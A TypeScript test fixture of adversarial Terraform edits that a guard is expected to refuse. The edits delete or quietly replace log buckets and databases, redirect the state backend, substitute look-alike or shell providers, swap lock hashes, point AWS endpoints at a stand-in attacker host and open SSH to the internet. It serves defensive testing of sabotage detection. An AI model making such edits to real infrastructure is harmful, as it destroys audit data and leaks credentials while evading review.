/** Terraform: deleting, replacing, and taking over the state, providers and lifecycle of what the module manages. */
import { editing, type AdversarialCase } from './case.js';
import { LOGS_BUCKET, tfCase } from './fixtures-terraform.js';

export const TERRAFORM_LIFECYCLE_CASES: readonly AdversarialCase[] = [
  tfCase(
    {
      id: 'tf-deletion-logs-bucket-block-removed',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why: 'Deleting the access-log bucket destroys the audit trail; a removed resource is a destroy on the next apply.',
    },
    { 'main.tf': editing([`\n${LOGS_BUCKET}`, '']) },
  ),
  tfCase(
    {
      id: 'tf-deletion-force-destroy-on-logs-bucket',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why: 'force_destroy lets a later destroy or replacement empty the bucket of every object without a trace.',
    },
    {
      'main.tf': editing([
        '  bucket = "acme-app-logs-${var.environment}"\n',
        '  bucket        = "acme-app-logs-${var.environment}"\n  force_destroy = true\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-deletion-prevent-destroy-lifecycle-dropped',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why: 'Dropping prevent_destroy from the primary database removes the last guard before a destroy plan is applied.',
    },
    {
      'database.tf': editing([
        '  backup_retention_period     = 14\n\n  lifecycle {\n    prevent_destroy = true\n  }\n',
        '  backup_retention_period     = 14\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-deletion-protection-off-inside-minor-version-fix',
      family: 'deletion',
      target: { address: 'aws_db_instance.main', controlId: 'RDS.13' },
      expect: { guard: 'refuse', patch: 'refuse' },
      why:
        'A legitimate-looking RDS.13 fix that also turns deletion protection off and skips the final snapshot makes ' +
        'the database disposable.',
    },
    {
      'database.tf': editing(
        [
          '  deletion_protection         = true\n  skip_final_snapshot         = false\n',
          '  deletion_protection         = false\n  skip_final_snapshot         = true\n',
        ],
        ['  backup_retention_period     = 14\n', '  backup_retention_period     = 14\n  auto_minor_version_upgrade  = true\n'],
      ),
    },
  ),
  tfCase(
    {
      id: 'tf-deletion-moved-block-from-wrong-address',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why:
        'A rename whose moved block names an address that never existed (aws_s3_bucket.log) destroys the real bucket ' +
        'and creates an empty one.',
    },
    {
      'main.tf': editing([
        LOGS_BUCKET,
        'resource "aws_s3_bucket" "access_logs" {\n' +
          '  bucket = "acme-app-logs-${var.environment}"\n}\n\nmoved {\n  from = aws_s3_bucket.log\n' +
          '  to   = aws_s3_bucket.access_logs\n}\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-deletion-for-each-filtered-by-for-expression',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why: 'A for expression with an if clause silently drops the invoices queue (and its messages) from for_each.',
    },
    {
      'services.tf': editing([
        '  for_each = var.queues\n',
        '  for_each = { for name, queue in var.queues : name => queue if name != "invoices" }\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-deletion-count-condition-inverted',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why: 'Swapping the branches of the count conditional evaluates to 0 with the default, destroying the read replica.',
    },
    { 'database.tf': editing(['  count = var.replica_enabled ? 1 : 0\n', '  count = var.replica_enabled ? 0 : 1\n']) },
  ),
  tfCase(
    {
      id: 'tf-deletion-moved-into-count-index-that-is-not-created',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why:
        'Giving the logs bucket a count of 0 with a moved block to index [0] looks like a refactor but leaves no ' +
        'instance: the bucket is destroyed.',
    },
    {
      'main.tf': editing([
        LOGS_BUCKET,
        'resource "aws_s3_bucket" "logs" {\n' +
          '  count  = var.environment == "staging" ? 1 : 0\n  bucket = "acme-app-logs-${var.environment}"\n}\n\n' +
          'moved {\n  from = aws_s3_bucket.logs\n  to   = aws_s3_bucket.logs[0]\n}\n',
      ]),
    },
  ),

  tfCase(
    {
      id: 'tf-replacement-db-identifier-renamed',
      family: 'replacement',
      expect: { guard: 'refuse' },
      why: 'Renaming the RDS identifier forces a new database: the old one and its data are destroyed on apply.',
    },
    {
      'database.tf': editing([
        '  identifier                  = "app-${var.environment}"\n',
        '  identifier                  = "app-${var.environment}-pg"\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-replacement-bucket-renamed-in-interpolation',
      family: 'replacement',
      expect: { guard: 'refuse' },
      why: 'A one-word change inside the bucket name interpolation replaces the data bucket (a bucket cannot be ' + 'renamed).',
    },
    { 'main.tf': editing(['  bucket = "acme-app-data-${var.environment}"\n', '  bucket = "acme-data-${var.environment}"\n']) },
  ),
  tfCase(
    {
      id: 'tf-replacement-bucket-to-bucket-prefix',
      family: 'replacement',
      expect: { guard: 'refuse' },
      why: 'Switching bucket to bucket_prefix reads as tidying but forces a new bucket with a generated name.',
    },
    { 'main.tf': editing(['  bucket = "acme-app-logs-${var.environment}"\n}\n', '  bucket_prefix = "acme-app-logs-"\n}\n']) },
  ),
  tfCase(
    {
      id: 'tf-replacement-environment-default-renames-everything',
      family: 'replacement',
      expect: { guard: 'refuse' },
      why: 'One variable default feeds every name: changing it replaces both buckets, the subnet group and every ' + 'database.',
    },
    { 'variables.tf': editing(['  type    = string\n  default = "prod"\n', '  type    = string\n  default = "production"\n']) },
  ),
  tfCase(
    {
      id: 'tf-replacement-rds-storage-encrypted-needs-approval',
      family: 'replacement',
      target: { address: 'aws_db_instance.reports', controlId: 'RDS.3' },
      expect: { guard: 'refuse', patch: 'approval' },
      why:
        'Encrypting an existing RDS instance is the right fix but replaces it; a person must approve the data ' +
        'migration, it cannot pass silently.',
    },
    {
      'database.tf': editing([
        '  allocated_storage           = 20\n',
        '  allocated_storage           = 20\n  storage_encrypted           = true\n' +
          '  kms_key_id                  = aws_kms_key.data.arn\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-replacement-ebs-encrypted-needs-approval',
      family: 'replacement',
      target: { address: 'aws_ebs_volume.scratch', controlId: 'EC2.3' },
      expect: { guard: 'refuse', patch: 'approval' },
      why: 'Turning on encryption for an existing EBS volume replaces it (its data is lost), so even the correct fix ' + 'needs approval.',
    },
    { 'network.tf': editing(['  type              = "gp3"\n}\n', '  type              = "gp3"\n  encrypted         = true\n}\n']) },
  ),
  tfCase(
    {
      id: 'tf-replacement-approval-is-no-loophole-for-skip-snapshot',
      family: 'replacement',
      target: { address: 'aws_db_instance.reports', controlId: 'RDS.3' },
      expect: { guard: 'refuse', patch: 'refuse' },
      why:
        'Riding on an approvable replacement, the patch also skips the final snapshot, so the replaced database ' +
        'leaves no copy: refuse, not approve.',
    },
    {
      'database.tf': editing(
        [
          '  allocated_storage           = 20\n  username                    = "reports"\n',
          '  allocated_storage           = 20\n  storage_encrypted           = true\n' + '  username                    = "reports"\n',
        ],
        [
          '  skip_final_snapshot         = false\n  final_snapshot_identifier   = "app-reports-final"\n',
          '  skip_final_snapshot         = true\n',
        ],
      ),
    },
  ),

  tfCase(
    {
      id: 'tf-backend-state-bucket-redirected',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: 'Pointing the S3 backend at another bucket hands the state (every secret and resource id) to whoever owns it.',
    },
    { 'versions.tf': editing(['    bucket         = "acme-terraform-state"\n', '    bucket         = "acme-tfstate-replica-7781"\n']) },
  ),
  tfCase(
    {
      id: 'tf-backend-provider-source-lookalike',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: "A look-alike provider source runs the attacker's plugin binary with the deployer's credentials on init.",
    },
    { 'versions.tf': editing(['      source  = "hashicorp/aws"\n', '      source  = "hashicorp-aws/aws"\n']) },
  ),
  tfCase(
    {
      id: 'tf-backend-new-required-provider-shell',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: 'A new required provider is new code downloaded and run by terraform init.',
    },
    {
      'versions.tf': editing([
        '      version = "~> 5.60"\n    }\n',
        '      version = "~> 5.60"\n    }\n    shell = {\n      source  = "scottwinkler/shell"\n' + '      version = "1.7.10"\n    }\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-backend-aliased-provider-in-foreign-account',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why:
        'A provider alias assuming a role in another account, and the logs bucket moved onto it, sends the logs out ' +
        'of the organisation.',
    },
    {
      'versions.tf': (text) =>
        `${text}\nprovider "aws" {\n  alias  = "shared"\n  region = "eu-west-1"\n\n` +
        `  assume_role {\n    role_arn = "arn:aws:iam::999988887777:role/terraform"\n  }\n}\n`,
      'main.tf': editing([
        LOGS_BUCKET,
        'resource "aws_s3_bucket" "logs" {\n  provider = aws.shared\n' + '  bucket   = "acme-app-logs-${var.environment}"\n}\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-backend-provider-endpoint-override',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: "An endpoints override sends every STS and S3 call, signed with the deployer's credentials, to the " + "attacker's host.",
    },
    {
      'versions.tf': editing([
        'provider "aws" {\n  region = var.region\n',
        'provider "aws" {\n  region = var.region\n\n  endpoints {\n' +
          '    sts = "https://sts.eu-west-1.amazonaws.example.net"\n' +
          '    s3  = "https://s3.eu-west-1.amazonaws.example.net"\n  }\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-backend-import-foreign-bucket',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: 'An import block adopts a bucket this module never owned, so the next apply rewrites (or destroys) another ' + "team's data.",
    },
    {
      'main.tf': (text) =>
        `${text}\nimport {\n  to = aws_s3_bucket.archive\n  id = "acme-finance-archive"\n}\n\n` +
        `resource "aws_s3_bucket" "archive" {\n  bucket        = "acme-finance-archive"\n  force_destroy = true\n}\n`,
    },
  ),
  tfCase(
    {
      id: 'tf-backend-removed-block-forgets-database',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: 'A removed block takes the reports database out of management: nothing protects or audits it any more.',
    },
    {
      'database.tf': (text) =>
        `${text.slice(0, text.indexOf('resource "aws_db_instance" "reports"'))}removed {\n` +
        `  from = aws_db_instance.reports\n\n  lifecycle {\n    destroy = false\n  }\n}\n`,
    },
  ),
  tfCase(
    {
      id: 'tf-backend-lock-file-hashes-swapped',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: 'New hashes in the lock file make init accept a different provider binary for the same version.',
    },
    {
      '.terraform.lock.hcl': editing(
        ['"h1:8tbN1Q3hHh0mXbFMnqDk8D4q3CrCk1wnx2QexA0N2oQ="', '"h1:Qm9ndXNQcm92aWRlckJpbmFyeUhhc2gxMjM0NTY3OA="'],
        [
          '"zh:1f2e3d4c5b6a79880f1e2d3c4b5a69788f1e2d3c4b5a69788f1e2d3c4b5a6978"',
          '"zh:0000000000000000000000000000000000000000000000000000000000000bad"',
        ],
      ),
    },
  ),
  tfCase(
    {
      id: 'tf-backend-ignore-changes-all-on-database',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: 'ignore_changes = all freezes the database as it is: any later security fix in code is silently never ' + 'applied.',
    },
    {
      'database.tf': editing([
        '    prevent_destroy = true\n  }\n}\n\nresource "aws_db_instance" "replica"',
        '    prevent_destroy = true\n    ignore_changes  = all\n  }\n}\n\nresource "aws_db_instance" "replica"',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-backend-ignore-changes-on-ingress',
      family: 'backend-provider',
      expect: { guard: 'refuse' },
      why: 'Ignoring ingress lets rules opened in the console survive every apply: drift in the one attribute that ' + 'matters is hidden.',
    },
    {
      'network.tf': editing([
        '    cidr_blocks = [var.admin_cidr]\n  }\n}\n',
        '    cidr_blocks = [var.admin_cidr]\n  }\n\n  lifecycle {\n    ignore_changes = [ingress]\n  }\n}\n',
      ]),
    },
  ),
  tfCase(
    {
      id: 'tf-deletion-override-file-zero-count',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why:
        'An override file merges into the bucket declared in main.tf: its `count = 0` destroys the log bucket while ' +
        'every primary file still declares it as before.',
    },
    { 'a_override.tf': 'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-app-logs-${var.environment}"\n  count  = 0\n}\n' },
  ),
  tfCase(
    {
      id: 'tf-network-override-file-opens-bastion',
      family: 'network',
      expect: { guard: 'refuse' },
      why:
        "override.tf replaces the bastion's ingress blocks wholesale when Terraform merges it: SSH from anywhere, " +
        'in a file a reviewer may take for local developer settings.',
    },
    {
      'override.tf':
        'resource "aws_security_group" "bastion" {\n  ingress {\n    from_port   = 22\n    to_port     = 22\n' +
        '    protocol    = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\n',
    },
  ),
  tfCase(
    {
      id: 'tf-deletion-duplicate-declaration-in-new-file',
      family: 'deletion',
      expect: { guard: 'refuse' },
      why:
        'A second declaration of the log bucket with `count = 0` in a new file: a reader that keeps one of the two ' +
        'judges the wrong one; Terraform refuses the module.',
    },
    { 'a.tf': 'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-app-logs-${var.environment}"\n  count  = 0\n}\n' },
  ),
];
